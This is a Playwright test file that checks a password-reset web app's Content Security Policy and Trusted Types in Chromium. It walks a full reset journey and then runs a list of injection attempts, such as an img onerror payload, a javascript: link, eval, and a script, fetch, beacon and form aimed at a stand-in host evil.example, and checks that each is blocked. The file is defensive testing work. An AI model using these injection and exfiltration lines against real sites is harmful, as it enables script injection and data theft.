// The content policy in a real Chromium: no journey breaks it, and what it is there to stop is stopped.
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { openBrowser } from '../../scripts/chromium.ts'
import { type Sandbox, startSandbox } from '../support/sandbox.ts'
import { lastCode, wrongCode } from '../support/visitor.ts'

let sandbox: Sandbox
beforeAll(async () => {
  sandbox = await startSandbox({ settings: { RETURN_TO: JSON.stringify(['https://portal.example/']) } })
})
afterAll(() => sandbox.stop())
// So that nobody's hourly budget is used up.
beforeEach(() => sandbox.clock.advance(7200))

type Browser = Awaited<ReturnType<typeof openBrowser>>

async function inBrowser(javaScriptEnabled: boolean, walk: (page: Page, violations: string[], browser: Browser) => Promise<void>) {
  const browser = await openBrowser({ locale: 'en-GB', javaScriptEnabled })
  try {
    const page = await browser.context.newPage()
    page.setDefaultTimeout(30_000)
    const violations: string[] = []
    await page.exposeBinding('violated', (_, what: string) => violations.push(what))
    await page.addInitScript(() => {
      const { violated } = globalThis as unknown as { violated: (what: string) => void }
      addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => violated(`${effectiveDirective} ${blockedURI}`))
    })
    // Where no script runs, the browser itself complains.
    page.on('console', (message) => {
      if (/Content Security Policy|Permissions-Policy|Trusted/.test(message.text())) violations.push(message.text())
    })
    await walk(page, violations, browser)
  } finally {
    await browser.close()
  }
}

/** A whole reset, with whatever else can be pressed on its way. */
async function walk(page: Page, hasScript: boolean) {
  await page.goto(sandbox.url)
  await page.getByRole('button', { name: 'Deutsch' }).click()
  await page.locator('html[lang="de"]').waitFor()
  await page.getByRole('button', { name: 'English' }).click()
  await page.locator('html[lang="en"]').waitFor()
  await page.locator('#username').fill('alice')
  await page.keyboard.press('Enter')
  await page.locator('#step-code').waitFor()
  await sandbox.settled()
  await page.locator('#code').fill(wrongCode(lastCode(sandbox)))
  if (!hasScript) await page.keyboard.press('Enter')
  await page.locator('#fault:not(:empty)').waitFor()
  await page.reload()
  await page.locator('#code').fill(lastCode(sandbox))
  if (!hasScript) await page.keyboard.press('Enter')
  await page.locator('#step-password').waitFor()
  if (hasScript) {
    await page.locator('[data-act="suggest"]').click()
    await page.locator('[data-act="reveal"]').click()
  }
  await page.locator('#password').fill('password')
  await page.keyboard.press('Enter')
  await page.locator('[data-standing="refused"]').first().waitFor()
  await page.locator('#password').fill(`correct horse battery ${hasScript ? 'staple' : 'stable'}`)
  await page.keyboard.press('Enter')
  await page.locator('#step-done').waitFor()
}

describe('a whole reset violates no policy', () => {
  test.each([
    ['with scripts', true],
    ['without scripts', false]
  ])('%s', async (_, hasScript) => {
    await inBrowser(hasScript, async (page, violations) => {
      await walk(page, hasScript)
      expect(violations).toEqual([])
    })
  })
})

/** Runs in the page, as code of its own would: a timer's task is subject to the policy, an evaluation by the browser's tools is not. */
const ATTEMPTS: Readonly<Record<string, { attempt: () => void; stoppedBy: string }>> = {
  'an inline script': {
    stoppedBy: 'require-trusted-types-for',
    attempt: () => {
      const script = document.createElement('script')
      script.append('globalThis.broken = true')
      document.body.append(script)
    }
  },
  'a script from elsewhere': {
    stoppedBy: 'require-trusted-types-for',
    attempt: () => {
      const script = document.createElement('script')
      script.src = 'https://evil.example/x.js'
      document.body.append(script)
    }
  },
  eval: {
    stoppedBy: 'require-trusted-types-for',
    // biome-ignore lint/security/noGlobalEval: it is what must not run
    attempt: () => globalThis.eval('globalThis.broken = true')
  },
  'a function made of text': {
    stoppedBy: 'require-trusted-types-for',
    attempt: () => new Function('globalThis.broken = true')()
  },
  'an inline handler': {
    stoppedBy: 'require-trusted-types-for',
    attempt: () => {
      document.body.setAttribute('onclick', 'globalThis.broken = true')
      document.body.click()
    }
  },
  'a javascript: link': {
    stoppedBy: 'script-src-elem',
    attempt: () => {
      const link = document.createElement('a')
      link.href = 'javascript:void (globalThis.broken = true)'
      document.body.append(link)
      link.click()
    }
  },
  'markup that did not come through our policy': {
    stoppedBy: 'require-trusted-types-for',
    attempt: () => {
      document.body.innerHTML = '<img src=x onerror="globalThis.broken = true">'
    }
  },
  'a second policy for markup': {
    stoppedBy: 'trusted-types',
    attempt: () => {
      const { trustedTypes } = globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
      trustedTypes.createPolicy('evil', {})
      Object.assign(globalThis, { broken: true })
    }
  },
  'our policy a second time': {
    stoppedBy: 'trusted-types',
    attempt: () => {
      const { trustedTypes } = globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
      trustedTypes.createPolicy('rekey', {})
      Object.assign(globalThis, { broken: true })
    }
  },
  'a style in an attribute': {
    stoppedBy: 'style-src-attr',
    attempt: () => {
      document.body.setAttribute('style', 'display: none')
      if (getComputedStyle(document.body).display === 'none') Object.assign(globalThis, { broken: true })
    }
  },
  'an inline style': {
    stoppedBy: 'style-src-elem',
    attempt: () => {
      const style = document.createElement('style')
      style.append('body { display: none }')
      document.head.append(style)
      if (getComputedStyle(document.body).display === 'none') Object.assign(globalThis, { broken: true })
    }
  },
  'a picture from elsewhere': {
    stoppedBy: 'img-src',
    attempt: () => {
      new Image().src = 'https://evil.example/x.png'
    }
  },
  'a frame': {
    stoppedBy: 'frame-src',
    attempt: () => {
      const frame = document.createElement('iframe')
      frame.src = 'https://evil.example/'
      document.body.append(frame)
    }
  },
  'a call elsewhere': { stoppedBy: 'connect-src', attempt: () => void fetch('https://evil.example/').catch(() => {}) },
  'a beacon elsewhere': { stoppedBy: 'connect-src', attempt: () => void navigator.sendBeacon('https://evil.example/', 'x') },
  'a form that leads elsewhere': {
    stoppedBy: 'form-action',
    attempt: () => {
      const form = document.createElement('form')
      form.action = 'https://evil.example/'
      document.body.append(form)
      HTMLFormElement.prototype.submit.call(form)
    }
  },
  'another base for links': {
    stoppedBy: 'base-uri',
    attempt: () => {
      const base = document.createElement('base')
      base.href = 'https://evil.example/'
      document.head.append(base)
      if (document.baseURI.includes('evil')) Object.assign(globalThis, { broken: true })
    }
  }
}

test('what the policy is there to stop is stopped', async () => {
  await inBrowser(true, async (page, violations) => {
    // Would be answered: nothing but the policy stands before it.
    const elsewhere: string[] = []
    await page.route('https://evil.example/**', (route) => {
      elsewhere.push(route.request().url())
      return route.fulfill({ body: 'globalThis.broken = true', contentType: 'text/javascript' })
    })
    for (const [what, { attempt, stoppedBy }] of Object.entries(ATTEMPTS)) {
      await page.goto(sandbox.url)
      violations.length = 0
      await page.evaluate(`setTimeout(${attempt})`)
      await expect.poll(() => violations.join(), { message: what }).toContain(stoppedBy)
      expect(await page.evaluate(() => 'broken' in globalThis), what).toBe(false)
      expect(page.url()).toBe(`${sandbox.url}/`)
    }
    expect(elsewhere).toEqual([])
  })
})
